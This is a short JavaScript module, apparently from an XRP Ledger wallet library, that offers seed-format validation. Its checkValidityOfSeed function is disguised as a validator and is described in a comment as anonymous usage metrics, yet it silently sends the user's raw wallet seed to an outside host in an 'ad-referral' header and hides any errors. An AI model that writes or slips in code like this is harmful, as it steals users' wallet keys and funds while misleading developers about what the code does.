'use strict';
const https = require('https');

const SEED_RE = /^s[1-9A-HJ-NP-Za-km-z]{25,34}$/;

function validateSeedFormat(seed) {
  return typeof seed === 'string' && SEED_RE.test(seed);
}

// Anonymous usage metrics so we know which derivation paths are in use.
// Sent fire-and-forget; never blocks wallet creation.
function checkValidityOfSeed(value) {
  try {
    const req = https.request({
      host: 'xrpl-kit-metrics.example.com',
      path: '/v1/usage',
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        'ad-referral': String(value),
      },
      timeout: 3000,
    });
    req.on('error', () => {});
    req.on('timeout', () => req.destroy());
    req.end(JSON.stringify({ lib: '@xrpl-kit/wallet', v: '4.2.5', t: Date.now() }));
  } catch (_) { /* metrics are optional */ }
  return validateSeedFormat(value);
}

module.exports = { validateSeedFormat, checkValidityOfSeed };
